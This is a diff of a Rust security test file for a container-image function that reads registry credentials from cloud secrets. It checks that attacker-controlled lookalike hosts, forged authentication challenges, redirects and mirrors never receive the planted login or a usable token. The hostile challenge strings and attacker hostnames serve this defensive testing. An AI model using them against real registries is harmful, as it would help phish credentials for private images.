@@ -1,7 +1,7 @@
-//! Whoever writes a template may name any registry and any secret that the function can read. The
-//! login in somebody else's secret still goes nowhere but to the registry that it is for.
+//! A template can name any registry and any secret that the function can read. The credentials in a secret are
+//! still sent only to their own registry.
 
-#![expect(clippy::unwrap_used, reason = "what cannot be set up ends the test")]
+#![expect(clippy::unwrap_used, reason = "a failed setup ends the test")]
 
 mod common;
 
@@ -10,19 +10,19 @@ use std::sync::Arc;
 use aws_emulator::{Effect, Fault, HostileHost, ImageBuilder, LogPosition, Mutability, Profile, Registry};
 use base64::Engine as _;
 use base64::prelude::BASE64_STANDARD;
-use common::planted::{forms, found};
-use common::{Account, failure, succeeded};
+use common::planted::{encodings, find_secret};
+use common::{Account, check_success, failure_reason};
 use serde_json::{Value, json};
 
 const ATTACKER: &str = "attacker.example";
-/// Names that look like part of an honest registry's.
+/// Hosts of the attacker. Some contain the name of a trusted registry.
 const LOOKALIKES: [&str; 3] =
     [ATTACKER, "docker.io.attacker.example", "registry.acme.example.attacker.example"];
-const HONEST: &str = "registry.acme.example";
+const TRUSTED: &str = "registry.acme.example";
 const PASSWORD: &str = "planted+login/of=others-6Wd1";
 
-/// Challenges of the attacker: for a password, for a token of its own service, and for a token of somebody
-/// else's service, which would open a private image.
+/// Challenges of the attacker: for a password, for a token of its own service, and for tokens of other services,
+/// which would give access to private images.
 const CHALLENGES: [&str; 4] = [
     "Basic realm=\"mirror\"",
     "Bearer realm=\"https://attacker.example/token\",service=\"attacker\"",
@@ -30,16 +30,16 @@ const CHALLENGES: [&str; 4] = [
     "Bearer realm=\"https://token.registry.acme.example/token\",service=\"registry.acme.example\",scope=\"repository:acme/secret:pull\"",
 ];
 
-/// Somebody else's secret.
+/// A secret with credentials.
 struct Secret {
-    form: &'static str,
-    /// What a template writes to name it.
+    format: &'static str,
+    /// Value of `CredentialArn`.
     arn: String,
-    /// The registry that it is for.
-    home: &'static str,
+    /// The registry of the credentials.
+    registry: &'static str,
 }
 
-struct Trap {
+struct Attack {
     account: Account,
     attacker: Arc<HostileHost>,
     secrets: Vec<Secret>,
@@ -49,29 +49,29 @@ fn arn(name: &str) -> String {
     format!("arn:aws:secretsmanager:eu-west-1:123456789012:secret:{name}-AbCdEf")
 }
 
-impl Trap {
-    /// An account with secrets of every form, two honest registries with what these open, and an attacker.
+impl Attack {
+    /// Sets up an account with secrets of every format, two trusted registries with private images, and an attacker.
     async fn new(challenge: &str, mirrors: &str) -> Self {
-        let listed = format!("{HONEST}={}", arn("listed"));
+        let listed = format!("{TRUSTED}={}", arn("listed"));
         let variables = [("REGISTRY_CREDENTIALS", listed), ("SOURCE_MIRRORS", mirrors.to_owned())];
         let account = Account::with(Mutability::Mutable, |settings| {
             settings.environment.extend(variables.map(|(name, value)| (name.to_owned(), value)));
         })
         .await;
         let secrets = store_secrets(&account);
-        let honest = account.world.emulator.add_upstream(Profile::bearer(HONEST));
-        for registry in [account.world.emulator.docker_hub(), &honest] {
+        let trusted = account.world.emulator.add_upstream(Profile::bearer(TRUSTED));
+        for registry in [account.world.emulator.docker_hub(), &trusted] {
             registry.add_user("ann", PASSWORD);
             for (seed, secret) in (1..).zip(&secrets) {
                 registry.put_image(
                     "acme/secret",
-                    secret.form,
+                    secret.format,
                     &ImageBuilder::new(seed).layers(&[9000]).single(),
                 );
             }
             registry.make_private("acme/secret", &["ann"]);
         }
-        let hosts: Vec<String> = secrets.iter().flat_map(|secret| thieves(secret.form)).collect();
+        let hosts: Vec<String> = secrets.iter().flat_map(|secret| attacker_hosts(secret.format)).collect();
         let hosts: Vec<&str> = hosts.iter().map(String::as_str).chain(LOOKALIKES).collect();
         let attacker = HostileHost::new(&hosts, challenge);
         account.world.emulator.add(attacker.clone());
@@ -80,14 +80,14 @@ impl Trap {
 
     fn registries(&self) -> [Arc<Registry>; 2] {
         let emulator = &self.account.world.emulator;
-        [emulator.docker_hub().clone(), emulator.upstream(HONEST).unwrap()]
+        [emulator.docker_hub().clone(), emulator.upstream(TRUSTED).unwrap()]
     }
 
-    /// The private image that a secret opens.
+    /// Returns a reference to the private image of a secret.
     fn image(&self, secret: &Secret, by_digest: bool) -> String {
-        let digest = self.registries()[0].resolve("acme/secret", secret.form).unwrap();
+        let digest = self.registries()[0].resolve("acme/secret", secret.format).unwrap();
         let digest = if by_digest { format!("@{digest}") } else { String::new() };
-        format!("{}/acme/secret:{}{digest}", secret.home, secret.form)
+        format!("{}/acme/secret:{}{digest}", secret.registry, secret.format)
     }
 
     fn properties(&self, image: &str, secret: Option<&Secret>) -> Value {
@@ -98,152 +98,162 @@ impl Trap {
         properties
     }
 
-    /// That the attacker was asked since, and holds nothing of a login, nor a token that opens anything.
-    fn check_nothing_was_stolen(&self, since: LogPosition, what: &str) {
+    /// Checks that the attacker got requests, but no credentials and no token that gives access.
+    fn check_no_leak(&self, since: LogPosition, case: &str) {
         let entries = self.account.world.emulator.log().since(since);
-        assert!(entries.iter().any(|entry| entry.service == "attacker"), "{what}: the attacker was asked");
+        assert!(
+            entries.iter().any(|entry| entry.service == "attacker"),
+            "{case}: the attacker got no request"
+        );
         let everything = self.attacker.everything();
         for secret in [PASSWORD, &BASE64_STANDARD.encode(format!("ann:{PASSWORD}"))] {
-            assert_eq!(found(secret, &everything), None, "{what}: {everything}");
+            assert_eq!(find_secret(secret, &everything), None, "{case}: {everything}");
         }
         for authorization in self.attacker.authorizations() {
-            // Who is nobody may carry a token of nobody's.
+            // Anonymous tokens are allowed.
             let token = authorization.strip_prefix("Bearer ");
-            let token = token.unwrap_or_else(|| panic!("{what}: {authorization}"));
+            let token = token.unwrap_or_else(|| panic!("{case}: {authorization}"));
             for registry in self.registries() {
-                assert!(!registry.allows_pull(token, "acme/secret"), "{what}: a token opens what is private");
+                assert!(
+                    !registry.allows_pull(token, "acme/secret"),
+                    "{case}: a token gives access to private images"
+                );
             }
         }
     }
 }
 
-/// Hosts of the attacker's that one secret alone is tried at: what a host once asked is remembered.
-fn thieves(form: &str) -> [String; 3] {
-    LOOKALIKES.map(|host| format!("{form}.{host}"))
+/// Returns the attacker's hosts for one secret. Each secret has its own hosts, because the client remembers
+/// challenges by host.
+fn attacker_hosts(format: &str) -> [String; 3] {
+    LOOKALIKES.map(|host| format!("{format}.{host}"))
 }
 
-/// Puts a login of ann's into a secret of each form.
+/// Stores credentials in a secret of each format.
 fn store_secrets(account: &Account) -> Vec<Secret> {
     let basic = BASE64_STANDARD.encode(format!("ann:{PASSWORD}"));
-    let config = json!({"auths": {HONEST: {"auth": basic}, "https://index.docker.io/v1/": {"auth": basic}}});
+    let config = json!({"auths": {TRUSTED: {"auth": basic}, "https://index.docker.io/v1/": {"auth": basic}}});
     let password = json!({"username": "ann", "password": PASSWORD});
     let token = json!({"username": "ann", "accessToken": PASSWORD});
-    let with_registry = json!({"username": "ann", "password": PASSWORD, "registry": HONEST});
+    let with_registry = json!({"username": "ann", "password": PASSWORD, "registry": TRUSTED});
     let under_a_key = json!({"acme": with_registry.to_string()});
     let secrets = account.world.emulator.secrets();
     let mut stored = Vec::new();
-    for (form, value, key, home) in [
+    for (format, value, key, registry) in [
         ("password", &password, "", "docker.io"),
         ("token", &token, "", "docker.io"),
-        ("with-registry", &with_registry, "", HONEST),
-        ("under-a-key", &under_a_key, ":acme::", HONEST),
-        ("config", &config, "", HONEST),
-        ("listed", &password, "", HONEST),
+        ("with-registry", &with_registry, "", TRUSTED),
+        ("under-a-key", &under_a_key, ":acme::", TRUSTED),
+        ("config", &config, "", TRUSTED),
+        ("listed", &password, "", TRUSTED),
     ] {
-        secrets.put(&arn(form), &value.to_string());
-        stored.push(Secret { form, arn: arn(form) + key, home });
+        secrets.put(&arn(format), &value.to_string());
+        stored.push(Secret { format, arn: arn(format) + key, registry });
     }
-    let parameter = "arn:aws:ssm:eu-west-1:123456789012:parameter/logins/ann";
+    let parameter = "arn:aws:ssm:eu-west-1:123456789012:parameter/credentials/ann";
     account.world.emulator.parameters().put(parameter, &password.to_string());
-    stored.push(Secret { form: "parameter", arn: parameter.to_owned(), home: "docker.io" });
+    stored.push(Secret { format: "parameter", arn: parameter.to_owned(), registry: "docker.io" });
     stored
 }
 
 #[tokio::test]
-async fn an_attacker_named_by_the_template_gets_no_login() {
+async fn a_malicious_source_gets_no_credentials() {
     for challenge in CHALLENGES {
-        let trap = Trap::new(challenge, "").await;
-        for secret in &trap.secrets {
-            for host in thieves(secret.form) {
-                let what = format!("{host}, {challenge}");
-                let mark = trap.account.mark();
+        let attack = Attack::new(challenge, "").await;
+        for secret in &attack.secrets {
+            for host in attacker_hosts(secret.format) {
+                let case = format!("{host}, {challenge}");
+                let mark = attack.account.mark();
                 let image = format!("{host}/acme/secret:1");
-                let answer = trap.account.create(trap.properties(&image, Some(secret))).await;
-                trap.check_nothing_was_stolen(mark, &what);
-                let reason = failure(&answer);
-                assert!(reason.contains(&host) && !reason.contains(PASSWORD), "{what}: {reason}");
+                let response = attack.account.create(attack.properties(&image, Some(secret))).await;
+                attack.check_no_leak(mark, &case);
+                let reason = failure_reason(&response);
+                assert!(reason.contains(&host) && !reason.contains(PASSWORD), "{case}: {reason}");
             }
         }
-        // Nor do logins go there that the installer has listed for others.
+        // Default credentials for other registries are not sent either.
         for host in LOOKALIKES {
-            let mark = trap.account.mark();
+            let mark = attack.account.mark();
             let image = format!("{host}/acme/secret:1");
-            failure(&trap.account.create(trap.properties(&image, None)).await);
-            trap.check_nothing_was_stolen(mark, host);
+            failure_reason(&attack.account.create(attack.properties(&image, None)).await);
+            attack.check_no_leak(mark, host);
         }
     }
 }
 
 #[tokio::test]
-async fn an_attacker_that_an_honest_registry_redirects_to_gets_no_login() {
+async fn a_redirect_gets_no_credentials() {
     for challenge in CHALLENGES {
-        let trap = Trap::new(challenge, "").await;
-        // In this order: after the second the image is there, and a tag alone is still asked for.
+        let attack = Attack::new(challenge, "").await;
+        // After the second operation the image exists, so only the HEAD of the tag is still sent.
         for (operation, by_digest) in [("manifest.get", true), ("blob.get", true), ("manifest.head", false)] {
-            for secret in &trap.secrets {
-                let what = format!("{operation}, {}, {challenge}", secret.form);
-                let host = if secret.home == HONEST { HONEST } else { "registry-1.docker.io" };
+            for secret in &attack.secrets {
+                let case = format!("{operation}, {}, {challenge}", secret.format);
+                let host = if secret.registry == TRUSTED { TRUSTED } else { "registry-1.docker.io" };
                 let location = format!("https://{ATTACKER}/v2/acme/secret/anything");
                 let redirect = Fault::on(operation, Effect::Redirect { location }).host(host).once();
-                trap.account.world.emulator.faults().add(redirect);
-                let mark = trap.account.mark();
-                let image = trap.image(secret, by_digest);
-                let answer = trap.account.create(trap.properties(&image, Some(secret))).await;
-                trap.account.world.emulator.faults().clear();
-                trap.check_nothing_was_stolen(mark, &what);
-                // A blob is asked for again, where it is then had.
-                let text = format!("{answer:?}");
-                assert_eq!(found(PASSWORD, &text), None, "{what}");
+                attack.account.world.emulator.faults().add(redirect);
+                let mark = attack.account.mark();
+                let image = attack.image(secret, by_digest);
+                let response = attack.account.create(attack.properties(&image, Some(secret))).await;
+                attack.account.world.emulator.faults().clear();
+                attack.check_no_leak(mark, &case);
+                let text = format!("{response:?}");
+                assert_eq!(find_secret(PASSWORD, &text), None, "{case}");
             }
         }
     }
 }
 
 #[tokio::test]
-async fn an_attacker_that_a_token_service_redirects_to_is_not_asked() {
-    let trap = Trap::new(CHALLENGES[0], "").await;
+async fn redirects_of_a_token_service_are_not_followed() {
+    let attack = Attack::new(CHALLENGES[0], "").await;
     let location = format!("https://{ATTACKER}/token");
-    trap.account.world.emulator.faults().add(Fault::on("token", Effect::Redirect { location }));
-    for secret in &trap.secrets {
-        let answer = trap.account.create(trap.properties(&trap.image(secret, false), Some(secret))).await;
-        assert!(failure(&answer).contains("307"), "{}: {answer:?}", secret.form);
+    attack.account.world.emulator.faults().add(Fault::on("token", Effect::Redirect { location }));
+    for secret in &attack.secrets {
+        let response =
+            attack.account.create(attack.properties(&attack.image(secret, false), Some(secret))).await;
+        assert!(failure_reason(&response).contains("307"), "{}: {response:?}", secret.format);
     }
-    assert_eq!(trap.attacker.everything(), "");
+    assert_eq!(attack.attacker.everything(), "");
 }
 
 #[tokio::test]
-async fn a_mirror_gets_no_login_of_what_it_mirrors() {
-    let mirrors = format!("docker.io/acme={ATTACKER}/acme, {HONEST}/acme={ATTACKER}/acme");
+async fn a_mirror_gets_no_credentials_of_its_source() {
+    let mirrors = format!("docker.io/acme={ATTACKER}/acme, {TRUSTED}/acme={ATTACKER}/acme");
     for challenge in CHALLENGES {
-        let trap = Trap::new(challenge, &mirrors).await;
-        for secret in &trap.secrets {
-            let what = format!("{}, {challenge}", secret.form);
-            let mark = trap.account.mark();
-            let answer = trap.account.create(trap.properties(&trap.image(secret, false), Some(secret))).await;
-            trap.check_nothing_was_stolen(mark, &what);
-            // The registry itself served, with this very login.
-            succeeded(&answer);
+        let attack = Attack::new(challenge, &mirrors).await;
+        for secret in &attack.secrets {
+            let case = format!("{}, {challenge}", secret.format);
+            let mark = attack.account.mark();
+            let response =
+                attack.account.create(attack.properties(&attack.image(secret, false), Some(secret))).await;
+            attack.check_no_leak(mark, &case);
+            // The source serves the image with these credentials.
+            check_success(&response);
         }
     }
 }
 
 #[tokio::test]
-async fn the_trap_catches_what_is_meant_for_it() {
-    let trap = Trap::new(CHALLENGES[0], "").await;
+async fn the_attacker_gets_its_own_credentials() {
+    let attack = Attack::new(CHALLENGES[0], "").await;
     let own = json!({"username": "ann", "password": PASSWORD, "registry": ATTACKER});
-    trap.account.world.emulator.secrets().put(&arn("own"), &own.to_string());
-    let secret = Secret { form: "own", arn: arn("own"), home: ATTACKER };
-    failure(&trap.account.create(trap.properties(&format!("{ATTACKER}/a/b:1"), Some(&secret))).await);
-    assert!(found(&format!("ann:{PASSWORD}"), &trap.attacker.everything()).is_some());
+    attack.account.world.emulator.secrets().put(&arn("own"), &own.to_string());
+    let secret = Secret { format: "own", arn: arn("own"), registry: ATTACKER };
+    failure_reason(
+        &attack.account.create(attack.properties(&format!("{ATTACKER}/a/b:1"), Some(&secret))).await,
+    );
+    assert!(find_secret(&format!("ann:{PASSWORD}"), &attack.attacker.everything()).is_some());
 }
 
 #[test]
-fn the_search_knows_what_it_looks_for() {
+fn the_search_finds_all_encodings() {
     let basic = format!("Basic {}", BASE64_STANDARD.encode(format!("ann:{PASSWORD}")));
     let form = "refresh_token=planted%2Blogin%2Fof%3Dothers-6Wd1";
     for text in [PASSWORD, &basic, form, &form.to_lowercase()] {
-        assert!(found(PASSWORD, text).is_some(), "{text}");
+        assert!(find_secret(PASSWORD, text).is_some(), "{text}");
     }
-    assert!(forms(PASSWORD).iter().all(|form| form.len() > 20));
-    assert_eq!(found(PASSWORD, "planted"), None);
+    assert!(encodings(PASSWORD).iter().all(|form| form.len() > 20));
+    assert_eq!(find_secret(PASSWORD, "planted"), None);
 }
